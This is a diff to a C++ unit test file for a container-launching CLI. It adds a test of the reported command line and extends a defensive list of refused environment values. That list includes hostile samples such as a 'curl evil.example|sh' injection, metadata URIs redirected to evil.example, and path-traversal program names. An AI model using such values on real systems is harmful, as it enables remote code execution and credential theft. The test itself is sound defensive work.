@@ -3,6 +3,7 @@
 #include "src/cli/input/container_variables.hpp"
 #include "src/cli/input/slack_settings.hpp"
 #include "src/cli/input/task_environment.hpp"
+#include "src/cli/session/context.hpp"
 
 #include <filesystem>
 #include <fstream>
@@ -100,6 +101,29 @@ TEST(ContainerVariables, VariablesOutsideTheTableHaveNoEffect) {
     EXPECT_EQ(known.get("AWS_EC2_METADATA_DISABLED"), "true");
 }
 
+TEST(ContainerVariables, TheNextCommandOfATaskIsTheOneThatWasTyped) {
+    for (const auto& [typed, named] : {std::pair{"./snow-white.sh", "./snow-white.sh"},
+                                       {"snow-white", "snow-white"},
+                                       {"/opt/tools/snow-white.sh", "snow-white.sh"},
+                                       {"/tmp/sw", "snow-white.sh"}}) {
+        cli::Request request{.mode = cli::Mode::wait,
+                             .pattern = "workers",
+                             .profiles = {"staging"},
+                             .application = "acme",
+                             .regions = {"us-east-1"},
+                             .timeout = std::chrono::hours{2}};
+        request.program = typed;
+        ContainerSets variables;
+        for (const auto& [name, value] : cli::container_environment(request))
+            variables[name] = value;
+        const auto parsed = cli::parse_container(Environment(variables));
+        ASSERT_TRUE(parsed) << parsed.error().message;
+        EXPECT_EQ(report::command_line(drain::Action::quiet, cli::run_info_of(*parsed)),
+                  std::string(named) +
+                      " -a quiet -e workers -f staging -p acme -r us-east-1 --timeout 2h --wait");
+    }
+}
+
 // Each of these would send a request, a signature or a secret elsewhere, or write in another's
 // name.
 TEST(ContainerVariables, AValueThatRedirectsRequestsOrSecretsIsRefused) {
@@ -121,6 +145,10 @@ TEST(ContainerVariables, AValueThatRedirectsRequestsOrSecretsIsRefused) {
         {"SNOW_WHITE_SELECTION", R"({"match":"contains","any_of":[""],"none_of":[]})"},
         {"SNOW_WHITE_SLACK_USER", "UPDATES"},
         {"SNOW_WHITE_SLACK_USER", "WEBMASTERS"},
+        {"SNOW_WHITE_PROGRAM", "/tmp/snow-white.sh"},
+        {"SNOW_WHITE_PROGRAM", "../snow-white.sh"},
+        {"SNOW_WHITE_PROGRAM", "curl evil.example|sh;snow-white"},
+        {"SNOW_WHITE_WAIT", "--here"},
         {"ECS_CONTAINER_METADATA_URI_V4", "http://evil.example/v4/1"},
         {"ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2@evil.example/v4/1"},
         {"ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2/v2/credentials/x?y="},
